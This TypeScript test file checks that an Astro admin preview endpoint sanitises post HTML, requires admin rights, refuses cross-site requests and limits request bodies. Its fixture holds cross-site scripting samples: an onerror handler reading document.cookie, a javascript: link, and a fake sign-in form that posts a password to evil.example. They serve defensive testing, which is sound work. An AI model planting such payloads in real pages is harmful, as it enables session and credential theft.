/**
 * POST /api/admin/preview/post through the real request pipeline: the admin's 'Preview' of a post
 * gets the post's HTML back sanitised by the public pages' own policy, so that HTML written
 * outside the admin (SQL, a table editor) never runs in the owner's admin page. Like every admin
 * endpoint it requires the admin (401, 403), refuses cross-site requests and limits its body.
 */
import { randomBytes } from "node:crypto";
import type { APIContext, APIRoute } from "astro";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import * as previewRoute from "../../src/pages/api/admin/preview/post";
import { authDeps, type AuthDeps } from "../../src/server/auth/auth-deps";
import { signIn } from "../../src/server/auth/handlers";
import { createUser, grantAdmin } from "../../src/server/auth/users";
import { sanitizePostHtml } from "../../src/server/content/sanitize-html";
import type { ServerContext } from "../../src/server/context";
import { AuthClient, bodyOf, newUser } from "../support/auth";
import { closeEmbeddedContext, useEmbeddedContext } from "../support/embedded";
import { throughPipeline } from "../support/pipeline";

const PATH = "/api/admin/preview/post";

let server: ServerContext;
let deps: AuthDeps;
const accounts = {
  owner: { email: "", password: "Owner-password-123!" },
  visitor: { email: "", password: "Visitor-password-123!" },
};

beforeAll(async () => {
  server = await useEmbeddedContext({ seed: false });
  deps = authDeps(server);
  for (const [label, account] of Object.entries(accounts)) {
    account.email = `${label}-${randomBytes(4).toString("hex")}@example.com`;
  }
  const [ownerUser, visitorUser] = await Promise.all([newUser(accounts.owner), newUser(accounts.visitor)]);
  await server.db.asOwner(async (sql) => {
    const owner = await createUser(sql, ownerUser);
    await grantAdmin(sql, owner.id);
    await createUser(sql, visitorUser);
  });
});
afterAll(() => closeEmbeddedContext());

async function signedIn(account: { email: string; password: string }): Promise<AuthClient> {
  const client = new AuthClient(deps);
  const { response } = await client.call(signIn, "/api/auth/signin", { body: account });
  expect(response.status).toBe(200);
  return client;
}

interface Call {
  body?: unknown;
  raw?: string;
  headers?: Record<string, string>;
  origin?: string | null;
}

/** POSTs to the route the way Astro does: request, cookies, the pipeline, then the endpoint. */
function preview(client: AuthClient, call: Call): Promise<Response> {
  const { context } = client.context(PATH, { method: "POST", ...call });
  const apiContext = {
    request: context.request,
    cookies: (context as unknown as { cookies: APIContext["cookies"] }).cookies,
    params: {},
    url: new URL(context.request.url),
    get clientAddress() {
      return client.address;
    },
  } as unknown as APIContext;
  return throughPipeline(previewRoute.POST as APIRoute, apiContext);
}

/** What a post written outside the admin put into the owner's admin page. */
const HOSTILE = {
  "an image with an onerror handler": '<p>Before</p><img src="/x.png" alt="x" onerror="alert(document.cookie)">',
  "a javascript: link": '<p><a href="javascript:alert(1)">Read more</a></p>',
  "a form posting elsewhere":
    '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Sign in again</button></form>',
  "a live style element": "<style>body { display: none } .admin * { color: red }</style><p>Styled</p>",
};

describe("POST /api/admin/preview/post", () => {
  it.each(Object.entries(HOSTILE))("answers %s sanitised by the public pages' policy", async (_name, html) => {
    const response = await preview(await signedIn(accounts.owner), { body: { html } });
    expect(response.status).toBe(200);
    expect(response.headers.get("cache-control")).toBe("no-store");
    const answer = await bodyOf(response);
    expect(answer).toEqual({ html: sanitizePostHtml(html) });
    const clean = answer.html as string;
    expect(clean).not.toMatch(/onerror/i);
    expect(clean).not.toMatch(/javascript:/i);
    expect(clean).not.toMatch(/<form|<input|<button/i);
    expect(clean).not.toMatch(/<style|display: none/i);
  });

  it("keeps what a post may hold", async () => {
    const html =
      '<h2>Gearbox</h2><p>It <strong>works</strong>, <a href="https://example.com">see</a>.</p><img src="/storage/v1/object/public/documents/images/1-a.png" alt="A gear" width="640" height="480">';
    const response = await preview(await signedIn(accounts.owner), { body: { html } });
    expect(response.status).toBe(200);
    expect(await bodyOf(response)).toEqual({
      html: '<h2>Gearbox</h2><p>It <strong>works</strong>, <a href="https://example.com" rel="noopener noreferrer">see</a>.</p><img src="/storage/v1/object/public/documents/images/1-a.png" alt="A gear" width="640" height="480" loading="lazy" decoding="async" />',
    });
  });

  it("answers 401 without a session and 403 for a signed-in user without the role", async () => {
    const body = { html: HOSTILE["a javascript: link"] };
    const anonymous = await preview(new AuthClient(deps), { body });
    expect(anonymous.status).toBe(401);
    expect(await bodyOf(anonymous)).toEqual({ error: "Not signed in" });
    const visitor = await preview(await signedIn(accounts.visitor), { body });
    expect(visitor.status).toBe(403);
    expect(await bodyOf(visitor)).toEqual({
      error: "You don't have admin privileges. Contact the system administrator.",
    });
  });

  it("refuses a cross-site request, even from the admin", async () => {
    const client = await signedIn(accounts.owner);
    for (const origin of ["https://evil.example", null]) {
      const response = await preview(client, { body: { html: "<p>x</p>" }, origin });
      expect(response.status).toBe(403);
      expect(await bodyOf(response)).toEqual({ error: "Cross-site request refused" });
    }
  });

  it("limits the body like the other admin endpoints: 413 past 512 KB, 415 unless JSON, 400 without html", async () => {
    const client = await signedIn(accounts.owner);
    const large = await preview(client, { body: { html: `<p>${"a".repeat(600 * 1024)}</p>` } });
    expect(large.status).toBe(413);
    const text = await preview(client, { raw: "html=<p>x</p>", headers: { "content-type": "text/plain" } });
    expect(text.status).toBe(415);
    const missing = await preview(client, { body: {} });
    expect(missing.status).toBe(400);
    const tooLong = await preview(client, { body: { html: "a".repeat(50_001) } });
    expect(tooLong.status).toBe(400);
    expect(await bodyOf(tooLong)).toEqual({ error: "Content is too long" });
  });
});
